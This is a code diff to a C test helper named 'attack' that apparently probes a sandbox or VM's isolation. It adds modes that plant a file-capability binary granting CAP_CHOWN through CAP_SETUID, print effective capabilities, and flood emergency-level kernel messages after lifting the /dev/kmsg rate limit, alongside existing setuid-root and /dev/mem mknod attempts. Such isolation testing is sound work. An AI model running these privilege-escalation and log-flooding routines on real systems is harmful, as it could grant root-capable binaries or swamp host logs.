@@ -9,7 +9,13 @@
  *                                          until /tmp/attack-stop exists; prints the tally
  *   attack suid PATH                       a setuid-root copy of this program at PATH
  *   attack mknod PATH                      try to make a character device (/dev/mem's numbers) at PATH
+ *   attack fcap PATH                       a copy of this program at PATH given CAP_CHOWN..CAP_SETUID by a
+ *                                          security.capability xattr (as `setcap` would)
+ *   attack caps                            print the effective capabilities and uid this process runs with
  *   attack flood MIB                       write MIB mebibytes to stdout
+ *   attack kmsg MIB                        write MIB mebibytes of emergency-level kernel messages (they reach
+ *                                          the guest's console, which the host logs), lifting the kernel's
+ *                                          rate limit on /dev/kmsg first as guest root may
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -21,6 +27,7 @@
 #include <sys/mount.h>
 #include <sys/stat.h>
 #include <sys/sysmacros.h>
+#include <sys/xattr.h>
 #include <unistd.h>
 
 static long ok, refused;
@@ -82,15 +89,21 @@ static int plant(const char *tag, const char *canary, const char *mnt, long roun
   return 0;
 }
 
-static int suid(const char *self, const char *path) {
-  int in = open(self, O_RDONLY), out = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
-  if (in < 0 || out < 0) return perror("open"), 1;
+static int copy_self(const char *path, int mode) {
+  int in = open("/proc/self/exe", O_RDONLY), out = open(path, O_WRONLY | O_CREAT | O_TRUNC, mode);
+  if (in < 0 || out < 0) return perror("open"), -1;
   char buf[65536];
   ssize_t n;
   while ((n = read(in, buf, sizeof buf)) > 0) {
-    if (write(out, buf, (size_t)n) != n) return perror("write"), 1;
+    if (write(out, buf, (size_t)n) != n) return perror("write"), -1;
   }
   close(in);
+  return out;
+}
+
+static int suid(const char *path) {
+  int out = copy_self(path, 0755);
+  if (out < 0) return 1;
   if (fchown(out, 0, 0) != 0 || fchmod(out, 04755) != 0) return perror("fchmod"), 1;
   close(out);
   struct stat st;
@@ -99,14 +112,60 @@ static int suid(const char *self, const char *path) {
   return 0;
 }
 
+static int fcap(const char *path) {
+  int out = copy_self(path, 0755);
+  if (out < 0) return 1;
+  close(out);
+  /* struct vfs_cap_data, revision 2 with the effective flag: chown to setuid (bits 0-7), all a root shell needs. */
+  unsigned int cap[5] = {0x02000001u, 0xffu, 0, 0, 0};
+  if (setxattr(path, "security.capability", cap, sizeof cap, 0) == 0) printf("FCAP-PLANTED\n");
+  else printf("FCAP-REFUSED %s\n", strerror(errno));
+  return 0;
+}
+
+static int caps(void) {
+  char line[256];
+  FILE *f = fopen("/proc/self/status", "r");
+  if (!f) return perror("status"), 1;
+  while (fgets(line, sizeof line, f)) {
+    if (strncmp(line, "CapEff:", 7) == 0) printf("%s", line);
+  }
+  fclose(f);
+  printf("euid=%u\n", geteuid());
+  return 0;
+}
+
+static int kmsg(long mib) {
+  int ctl = open("/proc/sys/kernel/printk_devkmsg", O_WRONLY);
+  if (ctl < 0 || write(ctl, "on\n", 3) != 3) return perror("printk_devkmsg"), 1;
+  close(ctl);
+  int k = open("/dev/kmsg", O_WRONLY);
+  if (k < 0) return perror("/dev/kmsg"), 1;
+  /* One record per write, under the kernel's per-record limit (LOG_LINE_MAX, 992 bytes). */
+  static char rec[512];
+  memcpy(rec, "<0>", 3);
+  memset(rec + 3, 'k', sizeof rec - 4);
+  rec[sizeof rec - 1] = '\n';
+  long written = 0;
+  while (written < mib << 20) {
+    if (write(k, rec, sizeof rec) != (ssize_t)sizeof rec) return perror("write /dev/kmsg"), 1;
+    written += (long)sizeof rec;
+  }
+  printf("KMSG-DONE bytes=%ld\n", written);
+  return 0;
+}
+
 int main(int argc, char **argv) {
   if (argc == 5 && strcmp(argv[1], "plant") == 0) return plant(argv[2], argv[3], "/m", atol(argv[4]));
-  if (argc == 3 && strcmp(argv[1], "suid") == 0) return suid("/proc/self/exe", argv[2]);
+  if (argc == 3 && strcmp(argv[1], "suid") == 0) return suid(argv[2]);
   if (argc == 3 && strcmp(argv[1], "mknod") == 0) {
     if (mknod(argv[2], S_IFCHR | 0600, makedev(1, 1)) == 0) printf("MKNOD-OK\n");
     else printf("MKNOD-REFUSED %s\n", strerror(errno));
     return 0;
   }
+  if (argc == 3 && strcmp(argv[1], "fcap") == 0) return fcap(argv[2]);
+  if (argc == 2 && strcmp(argv[1], "caps") == 0) return caps();
+  if (argc == 3 && strcmp(argv[1], "kmsg") == 0) return kmsg(atol(argv[2]));
   if (argc == 3 && strcmp(argv[1], "flood") == 0) {
     static char buf[65536];
     memset(buf, 'x', sizeof buf);
@@ -119,6 +178,6 @@ int main(int argc, char **argv) {
     printf("%u\n", geteuid());
     return 0;
   }
-  fprintf(stderr, "usage: attack plant TAG CANARY ROUNDS | suid PATH | mknod PATH | flood MIB | id\n");
+  fprintf(stderr, "usage: attack plant TAG CANARY ROUNDS | suid PATH | mknod PATH | fcap PATH | caps | flood MIB | kmsg MIB | id\n");
   return 2;
 }
